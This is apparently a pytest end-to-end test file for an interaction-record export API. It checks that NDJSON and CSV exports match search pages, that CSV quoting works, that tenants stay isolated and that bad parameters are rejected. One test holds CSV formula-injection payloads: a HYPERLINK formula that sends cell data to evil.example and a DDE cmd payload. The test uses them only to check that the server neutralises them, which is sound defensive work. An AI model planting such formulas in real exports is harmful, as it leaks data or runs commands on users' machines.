"""End to end, over HTTP on loopback: export (NDJSON and CSV) of every record a search matches, across
several of the export's internal batches; it equals the union of the search's pages, byte for byte."""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import msgspec
import pytest

from cxreport.service.export import CSV_COLUMNS
from support.servers import LiveServer
from support.tenants import TenantKeys, make_tenant_keys

BASE = datetime(2024, 7, 1, tzinfo=UTC)
COUNT = 4500
"""More than two of the export's internal batches of 2,000; 7 records share each start time, so the batch
boundaries fall inside ties."""
TRICKY = {
    1: {"customer": 'Doe, "Jane"\nSmith'},
    2: {"flowName": 'Flow, with "quotes"\r\nand lines'},
    3: {"customer": "Zoë 東京 ;\ttab", "flowName": " padded "},
    4: {"customer": '"', "flowName": ","},
    5: {"customer": "line\rfeed", "contactPoint": "a\u2028b"},
}


def iso(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def record(n: int, tenant_id: str) -> dict[str, Any]:
    start = BASE + timedelta(seconds=n // 7)
    body: dict[str, Any] = {
        "interactionId": str(uuid.uuid5(uuid.NAMESPACE_URL, f"export/{n}")),
        "tenantId": tenant_id,
        "startTimestamp": iso(start),
        "channelType": ("voice", "chat", "email")[n % 3],
        "direction": "inbound" if n % 2 else "outbound",
        "customer": f"+1555{n:07d}",
        "contactPoint": f"cp-{n % 6}",
        "contactId": f"ct-{n % 40}",
        "flowId": f"flow-{n % 4}",
        "flowName": f"Flow {n % 4}",
        "interactionTime": round(n * 1.37, 2),
        "ivrTime": (n % 13) * 0.5,
        "customerHolds": n % 3,
        "customerHoldTime": float(n % 3 * 20),
        "customerTransfers": n % 2,
        "segments": [{"segmentNumber": k + 1, "segmentTime": 1.5} for k in range(n % 3 + 1)],
        "queues": [{"queueId": f"q-{(n + k) % 5}", "queueAbandoned": n % 19 == 0 and k == 0}
                   for k in range(n % 3)],
        "agents": [{"agentId": f"ag-{(n + k) % 4}", "agentName": f"Agent {(n + k) % 4}"} for k in range(n % 4)],
    }
    if n % 9:
        body["endTimestamp"] = iso(start + timedelta(seconds=n % 50, milliseconds=n % 1000))
    if n % 4:
        body["flagged"] = n % 11 == 0
    if n % 17 == 0:
        body["customerAbandonTime"] = 4.25
    if n % 6 == 0:
        body["revision"] = n % 5 + 1
    if n % 10 == 0:
        body["customAttributes"] = {"tier": "gold"}
    if n % 8 == 0:
        body["csat"] = None
        body["contactPoint"] = None
    if n % 23 == 0:
        del body["interactionTime"]
    if n % 500 in TRICKY:
        body.update(TRICKY[n % 500])
    return body


@pytest.fixture(scope="module")
def tenant(live_server: LiveServer, http: httpx.Client) -> TenantKeys:
    keys = make_tenant_keys(live_server.store)
    records = [record(n, keys.id) for n in range(COUNT)]
    for low in range(0, COUNT, 1500):
        response = http.post(f"/v1/tenants/{keys.id}/interactions", auth=keys.ingest,
                             json=records[low:low + 1500])
        assert response.status_code == 200, response.text
    return keys


def raw_results(content: bytes) -> list[bytes]:
    """The records of a search response exactly as the server wrote them."""
    fields = msgspec.json.decode(content, type=dict[str, msgspec.Raw])
    return [bytes(raw) for raw in msgspec.json.decode(fields["results"], type=list[msgspec.Raw])]


def all_pages(http: httpx.Client, keys: TenantKeys, query: str) -> list[bytes]:
    """Every record of the search, page after page (by cursor, 1,000 a page), as written by the server."""
    docs: list[bytes] = []
    url = f"/v1/tenants/{keys.id}/interactions?{query}&limit=1000"
    total = None
    while url:
        response = http.get(url, auth=keys.read)
        assert response.status_code == 200, response.text
        body = response.json()
        total = body["total"] if total is None else total
        assert body["total"] == total
        docs += raw_results(response.content)
        url = body["nextUrl"]
    assert len(docs) == total
    return docs


def export(http: httpx.Client, keys: TenantKeys, query: str, export_format: str = "ndjson") -> httpx.Response:
    return http.get(f"/v1/tenants/{keys.id}/interactions/export?format={export_format}&{query}", auth=keys.read)


EXPORTS = [
    ("", COUNT),
    ("sort=asc&agentId=ag-1,ag-2", 2001),
    ("timeField=endTimestamp", 2001),
    ("timeField=lastUpdated&sort=asc", COUNT),
    ("channelType=voice&sort=asc&startTimeRange=2024-07-01T00:01:00Z&endTimeRange=2024-07-01T00:09:00Z", 1),
    ("includeNulls=true&flagged=false", 1),
    ("hookName=tier&attribute-value=gold&abandoned=false", 1),
    ("queueId=q-0&agentId=ag-3&direction=inbound", 1),
]


@pytest.mark.parametrize(("query", "at_least"), EXPORTS, ids=[query or "all" for query, _ in EXPORTS])
def test_ndjson_is_the_union_of_the_search_pages(http: httpx.Client, tenant: TenantKeys, query: str,
                                                 at_least: int) -> None:
    pages = all_pages(http, tenant, query)
    assert COUNT >= len(pages) >= at_least, "the big ones span several of the export's batches of 2,000"
    response = export(http, tenant, query)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].split(";")[0].strip() == "application/x-ndjson"
    assert response.content == b"".join(doc + b"\n" for doc in pages)
    lines = response.content.split(b"\n")
    assert lines[-1] == b"" and len(lines) == len(pages) + 1
    assert [json.loads(line) for line in lines[:-1]] == [json.loads(doc) for doc in pages]
    ids = [json.loads(line)["interactionId"] for line in lines[:-1]]
    assert len(set(ids)) == len(ids)


def test_nulls_follow_include_nulls(http: httpx.Client, tenant: TenantKeys) -> None:
    query = "startTimeRange=2024-07-01T00:00:00Z&endTimeRange=2024-07-01T00:00:03Z"
    plain = [json.loads(line) for line in export(http, tenant, query).content.splitlines()]
    kept = [json.loads(line) for line in export(http, tenant, f"{query}&includeNulls=true").content.splitlines()]
    assert len(plain) == len(kept) == 21
    expected = sorted((record(n, tenant.id) for n in range(21)),
                      key=lambda r: (r["startTimestamp"], r["interactionId"]), reverse=True)
    assert kept == expected
    assert plain == [{k: v for k, v in r.items() if v is not None} for r in expected]
    assert any("csat" in r for r in kept) and not any("csat" in r for r in plain)


# --- CSV ---------------------------------------------------------------------------------------------------------

STRINGS = ("interactionId", "tenantId", "startTimestamp", "endTimestamp", "channelType", "direction", "customer",
           "contactPoint", "contactId", "flowId", "flowName")
FLOATS = ("interactionTime", "ivrTime", "customerHoldTime", "customerAbandonTime")
INTS = ("customerHolds", "customerTransfers", "revision")


def spreadsheet_safe(text: str) -> str:
    """OWASP's neutralisation of CSV formula injection, as docs/api.md states it."""
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def check_row(row: dict[str, str], rec: dict[str, Any]) -> None:
    for name in STRINGS:
        assert row[name] == spreadsheet_safe(rec.get(name) or ""), name
    assert row["flagged"] == ("true" if rec.get("flagged") else "false")
    abandoned = rec.get("customerAbandonTime") is not None or any(q.get("queueAbandoned")
                                                                  for q in rec.get("queues") or [])
    assert row["abandoned"] == ("true" if abandoned else "false")
    for name in FLOATS:
        assert (float(row[name]) if row[name] else None) == rec.get(name), name
    for name in INTS:
        assert (int(row[name]) if row[name] else None) == rec.get(name), name
    for name, entries in (("segmentCount", "segments"), ("queueCount", "queues"), ("agentCount", "agents")):
        assert int(row[name]) == len(rec.get(entries) or []), name
    assert row["queueIds"].split() == [q["queueId"] for q in rec.get("queues") or []]
    assert row["agentIds"].split() == [a["agentId"] for a in rec.get("agents") or []]
    if rec.get("queues"):
        assert row["queueIds"] == " ".join(q["queueId"] for q in rec["queues"])


@pytest.mark.parametrize("query", ["", "agentId=ag-1,ag-2&sort=asc", "timeField=endTimestamp&channelType=chat"])
def test_csv_parses_back_one_row_per_interaction(http: httpx.Client, tenant: TenantKeys, query: str) -> None:
    records = [json.loads(doc) for doc in all_pages(http, tenant, query)]
    response = export(http, tenant, query, "csv")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].split(";")[0].strip() == "text/csv"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))
    assert rows[0] == list(CSV_COLUMNS)
    assert len(rows) == len(records) + 1
    assert all(len(row) == len(CSV_COLUMNS) for row in rows)
    for row, rec in zip(rows[1:], records, strict=True):
        check_row(dict(zip(CSV_COLUMNS, row, strict=True)), rec)


def test_csv_quotes_commas_quotes_and_newlines(http: httpx.Client, tenant: TenantKeys) -> None:
    first_second = "startTimeRange=2024-07-01T00:00:00Z&endTimeRange=2024-07-01T00:00:01Z&sort=asc"
    response = export(http, tenant, first_second, "csv")
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))
    records = sorted((record(n, tenant.id) for n in range(7)), key=lambda r: r["interactionId"])
    assert [row["interactionId"] for row in rows] == [r["interactionId"] for r in records]
    for row, rec in zip(rows, records, strict=True):
        check_row(row, rec)
    assert {row["customer"] for row in rows} >= {'Doe, "Jane"\nSmith', "Zoë 東京 ;\ttab", '"', "line\rfeed"}
    assert {row["flowName"] for row in rows} >= {'Flow, with "quotes"\r\nand lines', " padded ", ","}
    assert "a\u2028b" in {row["contactPoint"] for row in rows}


def test_csv_of_a_filter_on_a_plus_sign(http: httpx.Client, tenant: TenantKeys) -> None:
    response = http.get(f"/v1/tenants/{tenant.id}/interactions/export",
                        params={"format": "csv", "customer": "+15550000006,+15550004499"}, auth=tenant.read)
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))
    assert [row["customer"] for row in rows] == ["'+15550004499", "'+15550000006"]
    check_row(rows[0], record(4499, tenant.id))
    check_row(rows[1], record(6, tenant.id))


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1"]


def test_csv_neutralises_cells_a_spreadsheet_would_run(http: httpx.Client, live_server: LiveServer) -> None:
    keys = make_tenant_keys(live_server.store)
    records = [{"interactionId": str(uuid.uuid4()), "startTimestamp": "2024-07-01T00:00:00.000Z",
                "customer": formula, "flowName": formula, "ivrTime": -1.5,
                "queues": [{"queueId": formula}]} for formula in FORMULAS]
    stored = http.post(f"/v1/tenants/{keys.id}/interactions", json=records, auth=keys.ingest)
    assert stored.status_code == 200, stored.text
    response = http.get(f"/v1/tenants/{keys.id}/interactions/export?format=csv", auth=keys.read)
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))
    assert sorted(row["customer"] for row in rows) == sorted("'" + formula for formula in FORMULAS)
    assert sorted(row["flowName"] for row in rows) == sorted("'" + formula for formula in FORMULAS)
    assert sorted(row["queueIds"] for row in rows) == sorted("'" + formula for formula in FORMULAS)
    assert {row["ivrTime"] for row in rows} == {"-1.5"}  # numbers keep their sign
    ndjson = http.get(f"/v1/tenants/{keys.id}/interactions/export?format=ndjson", auth=keys.read)
    assert sorted(json.loads(line)["customer"] for line in ndjson.text.splitlines()) == sorted(FORMULAS)


def test_an_export_with_no_match(http: httpx.Client, tenant: TenantKeys) -> None:
    ndjson = export(http, tenant, "agentId=ag-404")
    assert ndjson.status_code == 200 and ndjson.content == b""
    table = export(http, tenant, "agentId=ag-404", "csv")
    assert table.status_code == 200
    assert list(csv.reader(io.StringIO(table.content.decode("utf-8"), newline=""))) == [list(CSV_COLUMNS)]


def test_an_export_stays_in_its_tenant(http: httpx.Client, new_tenant: Callable[..., TenantKeys],
                                       tenant: TenantKeys) -> None:
    keys = new_tenant()
    mine = record(7, keys.id)
    response = http.post(f"/v1/tenants/{keys.id}/interactions", auth=keys.ingest, json=mine)
    assert response.status_code == 200, response.text
    lines = export(http, keys, "").content.splitlines()
    assert [json.loads(line) for line in lines] == [{k: v for k, v in mine.items() if v is not None}]
    denied = http.get(f"/v1/tenants/{tenant.id}/interactions/export?format=csv", auth=keys.read)
    assert denied.status_code == 403, denied.text
    assert denied.json()["code"] == "forbidden"


# --- errors --------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("query", "code", "parameter"), [
    ("format=xml", "invalid_parameter", "format"),
    ("format=", "invalid_parameter", "format"),
    ("format=CSVX&channelType=voice", "invalid_parameter", "format"),
    ("format=csv&limit=10", "unknown_parameter", "limit"),
    ("format=ndjson&page=1", "unknown_parameter", "page"),
    ("format=ndjson&offset=5", "unknown_parameter", "offset"),
    ("format=ndjson&cursor=abc", "unknown_parameter", "cursor"),
    ("format=csv&foo=1", "unknown_parameter", "foo"),
    ("format=csv&customer=", "invalid_parameter", "customer"),
    ("format=csv&hookSubType=lookup", "invalid_parameter", "hookSubType"),
    ("format=csv&flagged=maybe", "invalid_parameter", "flagged"),
    ("format=csv&hookName=tier", "invalid_parameter", "hookName"),
    ("format=ndjson&timeField=created", "invalid_parameter", "timeField"),
    ("format=ndjson&sort=sideways", "invalid_parameter", "sort"),
    ("format=ndjson&startTimeRange=2024-07-02&endTimeRange=2024-07-01", "invalid_parameter", "startTimeRange"),
])
def test_bad_export_requests_are_refused_before_any_byte(http: httpx.Client, tenant: TenantKeys, query: str,
                                                         code: str, parameter: str) -> None:
    response = http.get(f"/v1/tenants/{tenant.id}/interactions/export?{query}", auth=tenant.read)
    assert response.status_code == 400, response.text[:300]
    assert response.headers["content-type"].startswith("application/json")
    body = response.json()
    assert body["status"] == 400 and body["code"] == code and body["parameter"] == parameter, body
    if code == "unknown_parameter":
        listed = {name.strip() for name in body["message"].split("accepts:", 1)[1].split(",")}
        assert "format" in listed and "agentId" in listed and "hookName" in listed
        assert not listed & {"limit", "page", "offset", "cursor"}
